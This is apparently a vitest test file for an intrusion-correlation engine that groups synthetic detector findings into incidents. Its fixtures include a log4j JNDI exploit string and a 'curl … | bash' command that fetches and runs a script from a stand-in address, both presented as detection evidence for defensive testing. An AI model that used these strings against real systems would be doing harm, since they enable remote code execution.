import { describe, expect, it } from 'vitest';
import { microsPerDay } from '../base/time.ts';
import type { EntityKind } from '../events/entity.ts';
import type { Finding } from '../events/finding.ts';
import { correlate } from './correlate.ts';
import { context, entities, finding, minutes } from './testdata/scenarios.ts';

/** An intrusion whose host is `docker1` to its own logs and `10.20.30.20` to the network, and nothing joins the two names. */
const network: Finding[] = [
  finding({
    detector: 'analytics/exploit-string',
    title: 'JNDI look-up in a request header',
    severity: 'medium',
    first_seen: minutes(0),
    entities: entities(['host', '10.20.30.20'], ['address', '198.51.100.77']),
    attack: ['T1190'],
    reasons: [{ what: 'string', value: '${${lower:j}ndi:ldap://203.0.113.66:1389/x}' }],
  }),
  finding({
    detector: 'alerts/suricata/2034647',
    title: 'ET EXPLOIT Apache log4j RCE Attempt',
    severity: 'high',
    first_seen: minutes(0.02),
    last_seen: minutes(0.5),
    count: 14,
    entities: entities(['host', '10.20.30.20'], ['address', '198.51.100.77']),
    attack: ['T1190'],
    evidence: [{ evidence_id: 3, at: 12 }],
  }),
  finding({
    detector: 'analytics/beacon',
    title: '10.20.30.20 calls static.nimbus-relay.example (tcp/443) every 10 min',
    severity: 'high',
    first_seen: minutes(25),
    last_seen: minutes(790),
    count: 78,
    entities: entities(['host', '10.20.30.20'], ['domain', 'static.nimbus-relay.example'], ['address', '203.0.113.7']),
    attack: ['T1071.001', 'T1573'],
  }),
  finding({
    detector: 'analytics/dns-tunnel',
    title: 'Data in names below sync-metrics.example',
    severity: 'high',
    first_seen: minutes(140),
    last_seen: minutes(340),
    count: 900,
    entities: entities(['host', '10.20.30.20'], ['domain', 'sync-metrics.example'], ['address', '10.1.0.53']),
    attack: ['T1048.003', 'T1071.004'],
  }),
];
const host: Finding[] = [
  finding({
    detector: 'analytics/execution',
    title: 'java started bash: a server program started a shell',
    severity: 'high',
    first_seen: minutes(0.4),
    entities: entities(
      ['host', 'docker1'],
      ['executable', '/bin/bash'],
      ['process', 'docker1/4242/bash'],
      ['container', 'web01'],
      ['user', 'app'],
    ),
    attack: ['T1190', 'T1059.004'],
    reasons: [{ what: 'command', value: 'bash -c curl -s http://203.0.113.66:8888/i.sh | bash' }],
    evidence: [{ evidence_id: 2, at: 3352 }],
  }),
  finding({
    detector: 'analytics/persistence-change',
    title: 'bash changed a cron file /etc/cron.d/shop-report',
    severity: 'high',
    first_seen: minutes(0.7),
    entities: entities(
      ['host', 'docker1'],
      ['file', 'docker1:/etc/cron.d/shop-report'],
      ['container', 'web01'],
      ['user', 'app'],
    ),
    attack: ['T1053.003'],
    evidence: [{ evidence_id: 2, at: 3391 }],
  }),
];
const backup = finding({
  detector: 'alerts/falco/Read sensitive file untrusted',
  title: 'Read sensitive file untrusted',
  severity: 'medium',
  first_seen: minutes(-507),
  last_seen: minutes(-506),
  entities: entities(['host', 'docker1'], ['file', 'docker1:/etc/shadow'], ['user', 'root']),
  attack: ['T1555'],
});
const ids = (findings: readonly Finding[]): string[] => findings.map(({ id }) => id).sort();

describe('one intrusion seen by two worlds', () => {
  it('is joined by the callback that an exploit string and a command both name', () => {
    const unnamed = { ...context, aliases: () => [] };
    const [named, ...others] = correlate([...network, ...host, backup], unnamed);
    const text = JSON.stringify(host.map(({ reasons }) => reasons));
    expect(text).toContain('203.0.113.66');
    expect(others.map(({ findings }) => findings)).toEqual([[backup.id]]);
    expect([...(named?.findings ?? [])].sort()).toEqual(ids([...network, ...host]));
  });
  it('is joined by the address of the host where that is known', () => {
    const silent = host.map((one) => ({ ...one, reasons: [] }));
    const known = { ...context, aliases: (value: string) => (value === 'docker1' ? ['10.20.30.20'] : []) };
    const [first] = correlate([...network, ...silent, backup], known);
    expect([...(first?.findings ?? [])].sort()).toEqual(ids([...network, ...host]));
    expect(first?.severity).toBe('critical');
  });
  it('leaves the nightly backup on the same host out of it', () => {
    const incidents = correlate([...network, ...host, backup], context);
    expect(incidents.find(({ findings }) => findings.includes(backup.id))?.findings).toEqual([backup.id]);
  });
});

describe('things that carry no link', () => {
  const two = (key: readonly [EntityKind, string], gapMinutes = 5): Finding[] =>
    ['alpha', 'beta'].map((name, index) =>
      finding({
        detector: `analytics/${name}`,
        title: `Something on ${name}`,
        severity: 'high',
        first_seen: minutes(index * gapMinutes),
        entities: entities(['host', name], key),
        attack: [index === 0 ? 'T1190' : 'T1071'],
      }),
    );
  it.each([
    ['user', 'root'],
    ['image', 'debian:12'],
    ['package', 'openssl'],
    ['vulnerability', 'CVE-2021-44228'],
    ['executable', '/bin/bash'],
    ['user-agent', 'curl/8.5.0'],
  ] as const)('a shared %s does not join two hosts', (kind, value) => {
    expect(correlate(two([kind, value]), { ...context, prevalence: () => undefined })).toHaveLength(2);
  });
  it.each([
    ['file-hash', 'a'.repeat(64)],
    ['address', '203.0.113.200'],
    ['url', 'http://203.0.113.200/i.sh'],
  ] as const)('a shared %s joins them', (kind, value) => {
    expect(correlate(two([kind, value]), { ...context, prevalence: () => undefined })).toHaveLength(1);
  });
  it('a far side seen again after months joins nothing', () => {
    const months = (90 * microsPerDay) / 60_000_000;
    expect(correlate(two(['address', '203.0.113.200'], months), context)).toHaveLength(2);
  });
  it('a rare fingerprint joins two hosts, a common one does not', () => {
    const fingerprint = two(['tls-fingerprint', 't13d1516h2_8daaf6152771_b186095e22b6']);
    expect(correlate(fingerprint, { ...context, prevalence: () => ({ hosts: 2, totalHosts: 400 }) })).toHaveLength(1);
    expect(correlate(fingerprint, { ...context, prevalence: () => ({ hosts: 300, totalHosts: 400 }) })).toHaveLength(2);
  });
});

describe('a device that somebody put into the network', () => {
  const ssh = (host: string): Finding =>
    finding({
      detector: 'analytics/unusual-port',
      title: 'ssh on port 443 to 203.0.113.66',
      severity: 'low',
      first_seen: minutes(30),
      entities: entities(['host', host], ['address', '203.0.113.66']),
      attack: ['T1571'],
    });
  const device = finding({
    detector: 'analytics/rogue-device',
    title: 'single-board computer in the network',
    severity: 'medium',
    first_seen: minutes(0),
    last_seen: minutes(600),
    entities: entities(['host', '10.20.10.84'], ['device', 'b8:27:eb:4a:5b:6c (Raspberry Pi Foundation)']),
    attack: ['T1200'],
  });
  it('has what it does told with it, also what would be little on a known machine', () => {
    const [incident] = correlate([device, ssh('10.20.10.84')], context);
    expect(incident?.findings).toHaveLength(2);
    expect(correlate([device, ssh('10.20.10.31')], context)[0]?.findings).toHaveLength(1);
  });
  it('is not what any medium finding is', () => {
    const other = { ...device, detector: 'analytics/scan', attack: ['T1046'] };
    expect(correlate([other, ssh('10.20.10.84')], context)[0]?.findings).toHaveLength(1);
  });
});
